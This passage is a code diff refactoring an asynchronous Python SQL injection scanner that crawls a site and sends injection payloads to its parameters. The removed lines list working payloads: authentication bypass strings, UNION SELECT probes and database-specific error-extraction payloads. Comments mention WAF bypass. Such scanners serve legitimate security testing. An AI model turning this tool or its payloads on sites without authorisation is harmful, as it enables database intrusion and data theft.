             max_concurrent_requests: Maximum number of concurrent requests
             max_crawl_depth: Maximum depth to crawl
             scan_timeout: Maximum scan time in minutes
+            max_requests_per_host: Maximum concurrent connections to one host;
+                defaults to max_concurrent_requests. Lower it for fragile targets
         """
         # Default settings
         self.max_concurrent_requests = max_concurrent_requests
+        self.max_requests_per_host = max_requests_per_host or max_concurrent_requests
         self.max_crawl_depth = max_crawl_depth
         self.scan_timeout = scan_timeout * 60  # Convert to seconds
         
@@ -508,6 +1194,7 @@ class EnhancedSQLScanner:
         self.scan_progress = 0
         self.scan_start_time = 0
         self.chunk_size = 20  # Initial chunk size
+        self.max_blind_params = 5  # Blind SQLi budget per URL (slowest test type)
         self.concurrency_adjustment_interval = 10  # Check every 10 seconds
         self.concurrency_lock = asyncio.Lock()
         
@@ -516,10 +1203,27 @@ class EnhancedSQLScanner:
         self.tested_error_params = set()  # Track tested parameters for error-based SQLi
         self.tested_blind_params = set()  # Track tested parameters for blind SQLi
         self.url_fingerprints = set()  # For deduplication
+        self.tested_forms = set()  # (action, method, field names) of forms already tested
+        self.endpoint_reachability: Dict[str, bool] = {}  # HEAD pre-check results per URL
+        self._host_semaphores: Dict[str, asyncio.Semaphore] = {}  # See _host_semaphore
+        self._network_noise: Dict[str, asyncio.Future] = {}  # See _get_network_noise
         
         # Domain throttling for tracking requests per domain
         self.domain_throttling = defaultdict(int)
         
+        # Shared HTTP session, created lazily on first request (see _get_session)
+        self._session: Optional[aiohttp.ClientSession] = None
+        
+        # Single-flight state for payload requests: identical requests in flight
+        # share one round-trip, and results are reused briefly (see _send_payload_request)
+        self._inflight_payload_requests: Dict[Tuple[str, str, str, str, str], asyncio.Future] = {}
+        self._payload_response_cache: TTLCache = TTLCache(maxsize=1024, ttl=10)
+        self._payload_request_waiters: Dict[Tuple[str, str, str, str, str], int] = defaultdict(int)
+        
+        # FALSE_POSITIVE_PATTERNS hits per baseline page, keyed by the page's hash
+        # so the cache holds no page text (see _false_positive_hits)
+        self._baseline_false_positive_hits: Dict[int, Tuple[int, ...]] = {}
+        
         # Rate limiting and adaptive scanning
         self.rate_limiter = RateLimiter(
             rate_limit=5.0,  # Initial rate limit (requests per second)
@@ -616,10 +1320,17 @@ class EnhancedSQLScanner:
             "sqlstate"
         ]
         
-        # Add these to our existing error patterns
+        # Add these to a per-instance copy of the error patterns; appending to the
+        # class-level list would mutate state shared by every scanner instance
+        error_patterns = list(type(self).sql_error_patterns)
+        existing_lower = [existing.lower() for existing in error_patterns]
         for pattern in self.additional_sql_error_patterns:
-            if not any(pattern.lower() in existing.lower() for existing in self.sql_error_patterns):
-                self.sql_error_patterns.append(pattern)
+            pattern_lower = pattern.lower()
+            if not any(pattern_lower in existing for existing in existing_lower):
+                error_patterns.append(pattern)
+                existing_lower.append(pattern_lower)
+        self.sql_error_patterns = error_patterns
+        self.sql_error_matcher = get_sql_error_matcher(tuple(error_patterns))
         
         # Standard error-based payloads
         self.error_payloads = [
@@ -982,8 +1693,7 @@ class EnhancedSQLScanner:
         Returns:
             List of vulnerabilities found
         """
-        logger.info(f"Starting enhanced SQL injection scan for: {url}")
-        print(f"Starting enhanced SQL injection scan for: {url}")
+        logger.info("Starting enhanced SQL injection scan for: %s", url)
         
         # Always use maximum intensity for best results
         intensity = "max"
@@ -1036,7 +1746,7 @@ class EnhancedSQLScanner:
             feedback_loop_task = asyncio.create_task(self._feedback_loop())
             
             # Step 1: Use the shared intelligent crawler to discover URLs
-            print(f"Starting crawl process - this may take some time depending on site complexity...")
+            logger.info("Starting crawl process - this may take some time depending on site complexity...")
             discovered_urls = await self.crawler.crawl(url)
             
             # Add the base URL to the discovered URLs if not already present
@@ -1044,7 +1754,7 @@ class EnhancedSQLScanner:
             
             # If very few URLs were discovered, try crawling with altered settings
             if len(discovered_urls) < 5:
-                print(f"Few URLs discovered. Attempting alternate crawling approach...")
+                logger.info("Few URLs discovered. Attempting alternate crawling approach...")
                 # Try a different approach for heavily JavaScript-based sites
                 original_crawler = self.crawler
                 self.crawler = IntelligentCrawler(max_crawl_depth=3, max_crawl_urls=200, max_concurrent_requests=10)
@@ -1058,18 +1768,22 @@ class EnhancedSQLScanner:
             # Track the total discovered URLs for reporting
             total_discovered = len(discovered_urls)
             
-            logger.info(f"Discovered {total_discovered} URLs to test")
-            print(f"Discovered {total_discovered} URLs to test")
+            logger.info("Discovered %d URLs to test", total_discovered)
             
             # Step 2: Prioritize URLs based on likelihood of vulnerability
             prioritized_urls = self._prioritize_urls(discovered_urls)
             
             # Log the breakdown of prioritization
             if prioritized_urls:
-                high_risk_count = sum(1 for u in prioritized_urls if any(param in u.lower() for param in ['id=', 'user=', 'search=', 'query=']))
-                medium_risk_count = sum(1 for u in prioritized_urls if '=' in u and not any(param in u.lower() for param in ['id=', 'user=', 'search=', 'query=']))
+                high_risk_count = medium_risk_count = 0
+                for u in prioritized_urls:
+                    if RISKY_PARAM_RE.search(u):
+                        high_risk_count += 1
+                    elif '=' in u:
+                        medium_risk_count += 1
                 low_risk_count = len(prioritized_urls) - high_risk_count - medium_risk_count
-                print(f"URL priority breakdown: {high_risk_count} high-risk, {medium_risk_count} medium-risk, {low_risk_count} low-risk")
+                logger.info("URL priority breakdown: %d high-risk, %d medium-risk, %d low-risk",
+                            high_risk_count, medium_risk_count, low_risk_count)
             
             # Step 3: Process URLs in chunks with adaptive scanning
             chunk_size = int(self.chunk_size)  # Ensure chunk_size is an integer
@@ -1095,9 +1809,8 @@ class EnhancedSQLScanner:
                 end_idx = min(start_idx + chunk_size, len(prioritized_urls))
                 current_chunk = prioritized_urls[start_idx:end_idx]
                 
-                logger.info(f"Processing chunk {chunk_index+1}/{total_chunks} ({len(current_chunk)} URLs)")
-                print(f"Processing chunk {chunk_index+1}/{total_chunks} ({len(current_chunk)} URLs), " +
-                      f"found {len(vulnerabilities)} vulnerabilities so far...")
+                logger.info("Processing chunk %d/%d (%d URLs), found %d vulnerabilities so far...",
+                            chunk_index + 1, total_chunks, len(current_chunk), len(vulnerabilities))
                 
                 # Get the current concurrency setting (which may have been adjusted)
                 current_concurrency = self.performance_stats["current_concurrency"]
@@ -1156,10 +1869,10 @@ class EnhancedSQLScanner:
             
             # Print scan statistics
             scan_duration = time.time() - scan_stats["start_time"]
-            print(f"Scanner processed {scan_stats['processed_urls']} URLs " +
-                  f"({scan_stats['urls_with_params']} with parameters) in {scan_duration:.2f} seconds")
+            logger.info("Scanner processed %d URLs (%d with parameters) in %.2f seconds",
+                        scan_stats['processed_urls'], scan_stats['urls_with_params'], scan_duration)
             if scan_stats['skipped_urls'] > 0:
-                print(f"Note: {scan_stats['skipped_urls']} URLs were skipped (static files, etc.)")
+                logger.info("Note: %d URLs were skipped (static files, etc.)", scan_stats['skipped_urls'])
             
         except Exception as e:
             logger.error(f"Error during SQL injection scan: {str(e)}")
@@ -1176,11 +1889,14 @@ class EnhancedSQLScanner:
                 "evidence": str(e),
                 "remediation": "Check if the URL is accessible and try again"
             })
+        finally:
+            # Release pooled connections held by the shared session
+            await self.close()
         
         # Log scan completion
         scan_duration = time.time() - self.scan_start_time
-        logger.info(f"SQL injection scan completed in {scan_duration:.2f} seconds. Found {len(vulnerabilities)} vulnerabilities.")
-        print(f"SQL injection scan completed in {scan_duration:.2f} seconds. Found {len(vulnerabilities)} vulnerabilities.")
+        logger.info("SQL injection scan completed in %.2f seconds. Found %d vulnerabilities.",
+                    scan_duration, len(vulnerabilities))
         
         # Ensure all vulnerabilities have consistent format
         for vuln in vulnerabilities:
@@ -1224,66 +1940,33 @@ class EnhancedSQLScanner:
         medium_priority = []
         low_priority = []
         
-        # High-value parameter names that are frequently vulnerable in real-world applications
-        high_risk_params = [
-            'id', 'user_id', 'item_id', 'product_id', 'post_id', 'article_id', 'page_id', 'news_id', 'category_id',
-            'cat_id', 'action_id', 'material_id', 'section_id', 'module_id', 'record_id', 'profile_id', 
-            'file_id', 'ticket_id', 'message_id', 'thread_id', 'topic_id', 'group_id', 'event_id', 
-            'type', 'uid', 'pid', 'tid', 'gid', 'sid', 'lid', 'cid'
-        ]
-        
-        # Parameters often used in search/filter functionality (frequently vulnerable)
-        search_params = [
-            'search', 'query', 'q', 'filter', 'keyword', 'find', 'lookup', 'term', 'terms', 'key',
-            'where', 'criteria', 'condition', 'search_for', 'searchterm', 'search_query',
-            'pattern', 'contains', 'name', 'title'
-        ]
-        
-        # Parameters commonly found in authentication systems (frequently vulnerable)
-        auth_params = [
-            'username', 'user', 'email', 'login', 'account', 'pass', 'pin', 'auth', 'memberid',
-            'customer', 'member', 'admin'
-        ]
-        
-        # Generate regex patterns for efficiency
-        id_pattern = re.compile(r'[?&](' + '|'.join(high_risk_params) + r')=\d+', re.IGNORECASE)
-        search_pattern = re.compile(r'[?&](' + '|'.join(search_params) + r')=', re.IGNORECASE)
-        auth_pattern = re.compile(r'[?&](' + '|'.join(auth_params) + r')=', re.IGNORECASE)
-        
-        # Vulnerable file extensions and endpoints commonly seen in real-world applications
-        vulnerable_extensions = ['.php', '.asp', '.aspx', '.jsp', '.do', '.action', '.cgi']
-        vulnerable_endpoints = ['admin', 'login', 'user', 'account', 'profile', 'product', 
-                               'item', 'search', 'api', 'query', 'report', 'view', 'show',
-                               'display', 'backend', 'dashboard', 'control', 'panel', 'manage',
-                               'list', 'catalog', 'category', 'cart', 'order', 'shop', 'store']
-        
         for url in urls:
-            parsed = urlparse(url)
+            parsed = _parse_url(url)
             path_lower = parsed.path.lower()
             
             # High priority: URLs with numeric ID parameters (most common SQL injection points)
-            if id_pattern.search(url):
+            if ID_PARAM_RE.search(url):
                 high_priority.append(url)
             # High priority: URLs with search/query/filter parameters
-            elif search_pattern.search(url):
+            elif SEARCH_PARAM_RE.search(url):
                 high_priority.append(url)
             # High priority: URLs with authentication parameters
-            elif auth_pattern.search(url):
+            elif AUTH_PARAM_RE.search(url):
                 high_priority.append(url)
             # High priority: URLs with multiple parameters (complex queries are often vulnerable)
             elif url.count('=') > 2:
                 high_priority.append(url)
             # High priority: URLs with specific vulnerable file extensions
-            elif any(path_lower.endswith(ext) for ext in vulnerable_extensions) and '=' in url:
+            elif path_lower.endswith(VULNERABLE_EXTENSIONS) and '=' in url:
                 high_priority.append(url)
             # Medium priority: URLs with any parameters
             elif '=' in url:
                 medium_priority.append(url)
             # Medium priority: Common endpoints that might involve database operations
-            elif any(endpoint in path_lower for endpoint in vulnerable_endpoints):
+            elif VULNERABLE_ENDPOINT_RE.search(path_lower):
                 medium_priority.append(url)
             # Medium priority: Paths containing numbers (often resource identifiers)
-            elif re.search(r'/\d+(?:/|$)', path_lower):
+            elif NUMERIC_PATH_RE.search(path_lower):
                 medium_priority.append(url)
             # Low priority: All other URLs
             else:
@@ -1433,7 +2116,7 @@ class EnhancedSQLScanner:
                     new_limit = min(self.rate_limiter.max_rate_limit, current_limit * 1.2)
                     if new_limit > current_limit:
                         self.rate_limiter.domain_limits[domain] = new_limit
-                        logger.debug(f"Increasing rate limit for {domain}: {current_limit:.2f} -> {new_limit:.2f} req/s")
+                        logger.debug("Increasing rate limit for %s: %.2f -> %.2f req/s", domain, current_limit, new_limit)
                 
                 # Decrease rate limit for problematic domains
                 elif domain_error_rate > 0.2 or domain_response_time > 3.0:
@@ -1441,7 +2124,7 @@ class EnhancedSQLScanner:
                     new_limit = max(self.rate_limiter.min_rate_limit, current_limit * 0.7)
                     if new_limit < current_limit:
                         self.rate_limiter.domain_limits[domain] = new_limit
-                        logger.debug(f"Decreasing rate limit for {domain}: {current_limit:.2f} -> {new_limit:.2f} req/s")
+                        logger.debug("Decreasing rate limit for %s: %.2f -> %.2f req/s", domain, current_limit, new_limit)
     
     def _get_random_headers(self) -> Dict[str, str]:
         """
@@ -1515,39 +2198,30 @@ class EnhancedSQLScanner:
         payloads = self.error_payloads[:10]  # First use a smaller set of common payloads
         
         # Add database-specific payloads based on URL patterns or previous detections
-        if "php" in url.lower() or "mysql" in url.lower():
+        url_hints = URL_DBMS_MATCHER.categories(url)
+        likely_dbms = next((dbms for dbms in URL_DBMS_HINTS if dbms in url_hints), None)
+        if likely_dbms == "mysql":
             # Likely MySQL
             payloads.extend(self.mysql_payloads[:3])
-        elif "asp" in url.lower() or "mssql" in url.lower():
+        elif likely_dbms == "mssql":
             # Likely MSSQL
             payloads.extend(self.mssql_payloads[:3])
-        elif "jsp" in url.lower() or "oracle" in url.lower():
+        elif likely_dbms == "oracle":
             # Likely Oracle
             payloads.extend(self.oracle_payloads[:2] if hasattr(self, 'oracle_payloads') else [])
-        elif "postgresql" in url.lower() or "pgsql" in url.lower():
+        elif likely_dbms == "postgresql":
             # Likely PostgreSQL
             payloads.extend(self.postgres_payloads[:3])
             
+        param_lower = param_name.lower()
+        
         # If parameter looks like an ID, add specific payloads
-        if param_name.lower() in ['id', 'uid', 'user_id', 'item_id', 'product_id']:
-            id_payloads = [
-                f"1 OR 1=1",
-                f"1) OR (1=1",
-                f"-1 UNION SELECT 1,2,3--",
-                f"' OR '1'='1' ORDER BY 1--"
-            ]
-            payloads.extend(id_payloads)
+        if param_lower in ID_PARAM_NAMES:
+            payloads.extend(ID_PARAM_PAYLOADS)
             
         # If parameter looks like authentication-related, add auth bypass payloads
-        if param_name.lower() in ['username', 'user', 'email', 'login', 'password', 'pass']:
-            auth_payloads = [
-                f"admin'--",
-                f"admin' OR '1'='1",
-                f"admin')--",
-                f"admin') OR ('1'='1",
-                f"' OR 1=1 LIMIT 1;--"
-            ]
-            payloads.extend(auth_payloads)
+        if param_lower in AUTH_PARAM_NAMES:
+            payloads.extend(AUTH_PARAM_PAYLOADS)
             
         # Add WAF bypass payloads if we're testing a site that might have a WAF
         if len(payloads) > 15:
@@ -1578,7 +2252,7 @@ class EnhancedSQLScanner:
         
         # Skip invalid URLs
         try:
-            parsed = urlparse(url)
+            parsed = _parse_url(url)
             if not parsed.scheme or not parsed.netloc:
                 return False
                 
@@ -1589,17 +2263,8 @@ class EnhancedSQLScanner:
             return False
         
         # Skip common static file extensions
-        static_extensions = [
-            '.jpg', '.jpeg', '.png', '.gif', '.bmp', '.ico', '.svg',  # Images
-            '.css', '.js', '.json', '.xml',  # Web assets
-            '.pdf', '.doc', '.docx', '.xls', '.xlsx', '.ppt', '.pptx',  # Documents
-            '.zip', '.rar', '.tar', '.gz', '.7z',  # Archives
-            '.mp3', '.mp4', '.avi', '.mov', '.mkv', '.flv',  # Media
-            '.ttf', '.woff', '.woff2', '.eot',  # Fonts
-        ]
-        
         path = parsed.path.lower()
-        if any(path.endswith(ext) for ext in static_extensions):
+        if path.endswith(STATIC_EXTENSIONS):
             return False
         
         # Skip URLs that have already been fingerprinted to avoid duplicates
@@ -1609,7 +2274,7 @@ class EnhancedSQLScanner:
             
         # Skip URLs with special parameters we don't want to test
         query_params = parse_qs(parsed.query)
-        if any(param.lower() in ['csrf', 'nonce', 'token'] for param in query_params):
+        if any(param.lower() in SECURITY_TOKEN_PARAMS for param in query_params):
             # These are security tokens that shouldn't be tampered with
             # Still process the URL, but will skip these parameters when testing
             pass
@@ -1631,7 +2296,7 @@ class EnhancedSQLScanner:
             List of vulnerabilities found
         """
         vulnerabilities = []
-        parsed_url = urlparse(url)
+        parsed_url = _parse_url(url)
         
         # Skip URLs without query parameters
         if not parsed_url.query:
@@ -1645,10 +2310,23 @@ class EnhancedSQLScanner:
             logger.warning(f"Skipping URL with too many parameters: {url}")
             return vulnerabilities
         
-        # Test each parameter for SQL injection
-        for param_name, param_values in query_params.items():
+        # Fetch the unmodified page once and share it between every parameter's
+        # error-based and blind tests instead of each test refetching it
+        baseline_response = await self._make_rate_limited_request(
+            url,
+            method="get",
+            headers=self.headers,
+            semaphore=None,  # Concurrency is bounded by the session connector
+            sample_rtt=True
+        )
+        if not baseline_response:
+            return vulnerabilities
+        
+        # Test each parameter for error-based SQL injection
+        blind_candidates = []
+        for index, (param_name, param_values) in enumerate(query_params.items()):
             # Skip security tokens
-            if param_name.lower() in ['csrf', 'nonce', 'token']:
+            if param_name.lower() in SECURITY_TOKEN_PARAMS:
                 continue
                 
             # Use the first value of the parameter
@@ -1656,16 +2334,25 @@ class EnhancedSQLScanner:
             
             # Test for error-based SQL injection
             error_vuln = await self._test_error_sqli(
-                url, param_name, param_value, "url", semaphore
+                url, param_name, param_value, "url", semaphore,
+                baseline_response=baseline_response
             )
             if error_vuln:
                 vulnerabilities.append(error_vuln)
                 # Skip blind testing if error-based vulnerability is found
                 continue
             
-            # Test for blind SQL injection (only if no error-based vulnerability is found)
+            # Parameters whose names hint at IDs, searches or users rank first;
+            # ties keep query-string order
+            priority = 1.0 if PARAM_HINT_MATCHER.categories(param_name) else 0.5
+            blind_candidates.append((priority, -index, param_name, param_value))
+        
+        # Test for blind SQL injection only on the highest-priority parameters
+        # without an error-based finding, so the number of blind tests is bounded
+        for priority, _, param_name, param_value in heapq.nlargest(self.max_blind_params, blind_candidates):
             blind_vuln = await self._test_blind_sqli(
-                url, param_name, param_value, "url", semaphore
+                url, param_name, param_value, "url", semaphore,
+                priority=priority, baseline_response=baseline_response
             )
             if blind_vuln:
                 vulnerabilities.append(blind_vuln)
@@ -1674,7 +2361,8 @@ class EnhancedSQLScanner:
 
     async def _test_error_sqli(self, url: str, param_name: str, param_value: str, 
                           location_type: str, semaphore: asyncio.Semaphore, 
-                          method: str = "get", priority: float = 1.0) -> Optional[Dict[str, Any]]:
+                          method: str = "get", priority: float = 1.0,
+                          baseline_response: Optional[Dict[str, Any]] = None) -> Optional[Dict[str, Any]]:
         """
         Test a parameter for error-based SQL injection.
         
@@ -1683,9 +2371,10 @@ class EnhancedSQLScanner:
             param_name: The name of the parameter to test
             param_value: The original value of the parameter
             location_type: Where the parameter is located (url, form, header, etc.)
-            semaphore: Semaphore for limiting concurrent requests
+            semaphore: Scan semaphore (not held here; requests are bounded by the session connector)
             method: HTTP method to use
             priority: Priority of the test
+            baseline_response: Already fetched unmodified response to reuse, if any
             
         Returns:
             Vulnerability if found, None otherwise
@@ -1704,30 +2393,35 @@ class EnhancedSQLScanner:
         # Select payloads based on the parameter context and value
         selected_payloads = self._select_error_sqli_payloads(url, param_name, param_value)
         
-        async with semaphore:
-            # First, get a baseline response to compare against
+        # First, get a baseline response to compare against
+        if baseline_response is None:
             baseline_response = await self._make_rate_limited_request(
                 url,
                 method=method,
                 headers=self.headers,
-                semaphore=None  # Already in a semaphore block
+                semaphore=None,  # Concurrency is bounded by the session connector
+                sample_rtt=True
             )
+        
+        if not baseline_response:
+            return None
             
-            if not baseline_response:
-                return None
-                
-            # Check if baseline already contains SQL errors (false positive prevention)
-            baseline_content = baseline_response["text"]
-            has_baseline_errors = any(re.search(pattern, baseline_content, re.IGNORECASE) 
-                                    for pattern in self.sql_error_patterns)
-            
-            # Test each payload
-            for payload in selected_payloads:
+        baseline_content = baseline_response["text"]
+        
+        async def send(payload: str) -> Tuple[str, Optional[Dict[str, Any]]]:
+            response = await self._send_payload_request(
+                url, param_name, payload, location_type, method
+            )
+            return payload, response
+        
+        # Send every payload at once (the session connector bounds the requests
+        # in flight) and examine responses as they arrive; the first confirmed
+        # finding cancels the probes still outstanding
+        tasks = [asyncio.create_task(send(payload)) for payload in selected_payloads]
+        try:
+            for next_response in asyncio.as_completed(tasks):
                 try:
-                    # Send the request with the payload
-                    response = await self._send_payload_request(
-                        url, param_name, payload, location_type, method
-                    )
+                    payload, response = await next_response
                     
                     if not response:
                         continue
@@ -1735,62 +2429,65 @@ class EnhancedSQLScanner:
                     # Check if payload triggered a SQL error
                     response_text = response["text"]
                     
-                    # Skip if the error pattern was also in the baseline (likely a false positive)
-                    if has_baseline_errors and response_text == baseline_content:
-                        continue
-                    
-                    # Look for SQL error patterns in the response
-                    for pattern in self.sql_error_patterns:
-                        if re.search(pattern, response_text, re.IGNORECASE):
-                            # Identify the database type from the error message
-                            dbms_type = self._identify_dbms_from_error(response_text)
-                            dbms_info = f" ({dbms_type})" if dbms_type else ""
-                            
-                            # Extract the specific error message for evidence
-                            error_match = re.search(r'[^\n\r]{0,100}' + pattern + r'[^\n\r]{0,100}', 
-                                                  response_text, re.IGNORECASE)
-                            error_evidence = error_match.group(0).strip() if error_match else "SQL error detected"
-                            
-                            # Determine confidence level based on error specificity
-                            confidence = 100 if dbms_type else 85
-                            
-                            # Heuristic: Reduce confidence if the error text is extremely long
-                            # (might be a false positive from a large page)
-                            if len(error_evidence) > 500:
-                                confidence -= 20
-                                error_evidence = error_evidence[:250] + "..." + error_evidence[-250:]
-                            
-                            # Create vulnerability report
-                            vulnerability = {
-                                "id": str(uuid.uuid4()),
-                                "name": f"SQL Injection{dbms_info}",
-                                "description": f"SQL injection vulnerability detected in parameter '{param_name}'. "
-                                            f"The application reveals SQL errors that can be exploited.",
-                                "severity": "high",
-                                "url": url,
-                                "parameter": param_name,
-                                "evidence": f"Payload: {payload}\nError: {error_evidence}",
-                                "remediation": "Use parameterized queries or prepared statements. Validate and sanitize all user inputs."
-                            }
-                            
-                            # Check if this might be a false positive using common heuristics
-                            if self._check_false_positive(baseline_content, response_text, payload, param_value):
-                                # Skip likely false positives
-                                continue
-                                
-                            # For high-confidence detections, also try some follow-up attacks to confirm
-                            # and gather more information about the vulnerability
-                            if confidence > 80:
-                                follow_up_info = await self._perform_follow_up_tests(
-                                    url, param_name, param_value, dbms_type, location_type, method
-                                )
-                                if follow_up_info:
-                                    vulnerability["additional_info"] = follow_up_info
-                            
-                            logger.info(f"Found error-based SQL injection: {url} (param: {param_name})")
-                            return vulnerability
+                    # Look for SQL error patterns in the response (one pass over the body)
+                    pattern = self.sql_error_matcher.search(response_text)
+                    if pattern is not None:
+                        # An unchanged page means the error was already in the baseline
+                        # (likely a false positive); the baseline itself is never rescanned
+                        if response_text == baseline_content:
+                            continue
+                        
+                        # Identify the database type from the error message
+                        dbms_type = self._identify_dbms_from_error(response_text)
+                        dbms_info = f" ({dbms_type})" if dbms_type else ""
+                        
+                        # Extract the specific error message for evidence
+                        error_match = self.sql_error_matcher.context(response_text, pattern)
+                        error_evidence = error_match.strip() if error_match else "SQL error detected"
+                        
+                        # Determine confidence level based on error specificity
+                        confidence = 100 if dbms_type else 85
+                        
+                        # Heuristic: Reduce confidence if the error text is extremely long
+                        # (might be a false positive from a large page)
+                        if len(error_evidence) > 500:
+                            confidence -= 20
+                            error_evidence = error_evidence[:250] + "..." + error_evidence[-250:]
+                        
+                        # Create vulnerability report
+                        vulnerability = {
+                            "id": str(uuid.uuid4()),
+                            "name": f"SQL Injection{dbms_info}",
+                            "description": f"SQL injection vulnerability detected in parameter '{param_name}'. "
+                                        f"The application reveals SQL errors that can be exploited.",
+                            "severity": "high",
+                            "url": url,
+                            "parameter": param_name,
+                            "evidence": f"Payload: {payload}\nError: {error_evidence}",
+                            "remediation": "Use parameterized queries or prepared statements. Validate and sanitize all user inputs."
+                        }
+                        
+                        # Check if this might be a false positive using common heuristics
+                        if self._check_false_positive(baseline_content, response_text, payload, param_value):
+                            # Skip likely false positives
+                            continue
+                        
+                        # For high-confidence detections, also try some follow-up attacks to confirm
+                        # and gather more information about the vulnerability
+                        if confidence > 80:
+                            follow_up_info = await self._perform_follow_up_tests(
+                                url, param_name, param_value, dbms_type, location_type, method
+                            )
+                            if follow_up_info:
+                                vulnerability["additional_info"] = follow_up_info
+                        
+                        logger.info(f"Found error-based SQL injection: {url} (param: {param_name})")
+                        return vulnerability
                 except Exception as e:
                     logger.error(f"Error testing SQL injection on {url} (param: {param_name}): {str(e)}")
+        finally:
+            for task in tasks:
+                task.cancel()
         
         return None
         
@@ -1806,133 +2503,23 @@ class EnhancedSQLScanner:
         Returns:
             List of selected payloads
         """
-        payloads = []
-        parsed_url = urlparse(url)
-        path = parsed_url.path.lower()
-        
-        # Detect if the URL suggests a specific database or framework
-        is_php = '.php' in path
-        is_asp = '.asp' in path or '.aspx' in path
-        is_jsp = '.jsp' in path or '.do' in path
-        
-        # Parameter name hints
-        is_id_param = any(id_pattern in param_name.lower() for id_pattern in ['id', 'num', 'code', 'key'])
-        is_search_param = any(search_pattern in param_name.lower() for search_pattern in ['search', 'query', 'find', 'filter'])
-        is_user_param = any(user_pattern in param_name.lower() for user_pattern in ['user', 'name', 'email', 'login', 'account'])
-        
-        # Parameter value hints 
-        is_numeric = param_value.isdigit()
-        is_string = not is_numeric and len(param_value) > 0
-        
-        # Basic tests that work across all databases
-        basic_payloads = [
-            "'"
-            "\"",
-            "\\",
-            "`;",
-            "'--",
-            "\"%",
-            "';"
-        ]
-        payloads.extend(basic_payloads)
-        
-        # Add SQL syntax error tests (most reliable for error-based detection)
-        payloads.extend([
-            f"{param_value}'",
-            f"{param_value}\"",
-            f"{param_value}')",
-            f"{param_value}\")",
-            f"{param_value}'))",
-            f"{param_value}\"))",
-            f"{param_value}';",
-            f"{param_value}\";"
-        ])
-        
-        # Add more sophisticated payloads for different database types
-        # MySQL specific tests
-        if is_php or not (is_asp or is_jsp):  # PHP often uses MySQL
-            mysql_payloads = [
-                f"{param_value}' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a) AND '1'='1",
-                f"{param_value}' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x7e,(SELECT version()),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a) AND '1'='1",
-                f"{param_value}' AND extractvalue(1, concat(0x7e, (SELECT @@version))) AND '1'='1",
-                f"{param_value}' AND updatexml(1, concat(0x7e, (SELECT @@version)), 1) AND '1'='1"
-            ]
-            payloads.extend(mysql_payloads)
-        
-        # SQL Server specific tests
-        if is_asp:  # ASP often uses SQL Server
-            mssql_payloads = [
-                f"{param_value}' AND 1=CONVERT(int,(SELECT @@version)) AND '1'='1",
-                f"{param_value}';IF 1=1 WAITFOR DELAY '0:0:1'--",
-                f"{param_value}' AND 1=db_name()--",
-                f"{param_value}' AND 1=(SELECT CAST(@@version as int))--"
-            ]
-            payloads.extend(mssql_payloads)
-        
-        # PostgreSQL specific tests
-        if any(x in path for x in ['/api', '/data']):  # APIs often use PostgreSQL
-            postgres_payloads = [
-                f"{param_value}' AND 1=cast(version() as int) AND '1'='1",
-                f"{param_value}' AND 1=cast(current_database() as int) AND '1'='1",
-                f"{param_value}' AND 1=(SELECT current_database()) AND '1'='1"
-            ]
-            payloads.extend(postgres_payloads)
-        
-        # Oracle specific tests
-        if any(x in path for x in ['/apex', '/ords', '/pls']):  # Oracle-specific paths
-            oracle_payloads = [
-                f"{param_value}' AND 1=UTL_INADDR.GET_HOST_NAME('invalid') AND '1'='1",
-                f"{param_value}' AND 1=CTXSYS.DRITHSX.SN(1,1) AND '1'='1",
-                f"{param_value}' AND 1=(SELECT banner FROM v$version WHERE rownum=1) AND '1'='1"
-            ]
-            payloads.extend(oracle_payloads)
-        
-        # Specific payloads based on parameter type
-        if is_id_param and is_numeric:
-            # Numeric ID parameters are most vulnerable to SQL injection
-            id_payloads = [
-                f"{param_value} AND 1=0 UNION ALL SELECT 1,2,3--",
-                f"{param_value} AND 1=0 UNION ALL SELECT null,null,null--",
-                f"{param_value}+1",
-                f"(SELECT 1 FROM dual WHERE 1=1)",
-                f"1 OR 1=1"
-            ]
-            payloads.extend(id_payloads)
-        
-        if is_search_param:
-            # Search parameters often vulnerable to LIKE-based injections
-            search_payloads = [
-                f"{param_value}%' AND 1=0 UNION ALL SELECT 1,2,3--",
-                f"{param_value}' UNION SELECT 1,2,3--",
-                f"{param_value}%%' AND 1=1--"
-            ]
-            payloads.extend(search_payloads)
-        
-        if is_user_param:
-            # User-related parameters often use additional validation
-            user_payloads = [
-                f"{param_value}' OR '1'='1",
-                f"{param_value}' OR 'x'='x",
-                f"{param_value}' OR username LIKE '%",
-                f"{param_value}' /**/OR/**/1=1--"
-            ]
-            payloads.extend(user_payloads)
-        
-        # Add UNION-based probes that often cause errors
-        payloads.extend([
-            f"{param_value}' UNION ALL SELECT 1--",
-            f"{param_value}' UNION ALL SELECT 1,2--",
-            f"{param_value}' UNION ALL SELECT 1,2,3--"
-        ])
-        
-        # Filter out duplicates and limit to a reasonable number to avoid too many requests
-        unique_payloads = list(dict.fromkeys(payloads))  # Preserves order
-        
-        # Prioritize based on the parameter type (e.g., numeric IDs first)
-        if is_id_param and is_numeric:
-            unique_payloads = sorted(unique_payloads, key=lambda x: 0 if param_value in x and "UNION" in x else 1)
+        return list(_error_sqli_payloads(_parse_url(url).path.lower(), param_name, param_value))
+    
+    def _false_positive_hits(self, baseline: str) -> Tuple[int, ...]:
+        """
+        Indices of FALSE_POSITIVE_PATTERNS found in a baseline page.
         
-        return unique_payloads[:30]  # Limit to 30 payloads maximum
+        Every error hit for a parameter is checked against the same baseline, so
+        the baseline is scanned once and later checks only search the response
+        for the patterns the baseline actually contains.
+        """
+        key = hash(baseline)
+        hits = self._baseline_false_positive_hits.get(key)
+        if hits is None:
+            hits = self._baseline_false_positive_hits[key] = tuple(
+                i for i, pattern in enumerate(FALSE_POSITIVE_PATTERNS) if pattern.search(baseline)
+            )
+        return hits
     
     def _check_false_positive(self, baseline: str, response: str, payload: str, original_value: str) -> bool:
         """
@@ -1953,33 +2540,15 @@ class EnhancedSQLScanner:
             
         # If the payload appears literally in the response, might be a false positive
         # (websites sometimes echo the parameter value)
-        payload_safe = re.escape(payload)
-        if re.search(payload_safe, response, re.IGNORECASE):
+        if _literal_re(payload).search(response):
             # Check if original value also appears (normal parameter reflection)
-            if original_value and re.search(re.escape(original_value), baseline, re.IGNORECASE):
+            if original_value and _literal_re(original_value).search(baseline):
                 # This is likely just standard parameter reflection, not SQLi
                 return True
                 
-        # Check for common false positive scenarios where "SQL" appears in legitimate contexts
-        false_positive_patterns = [
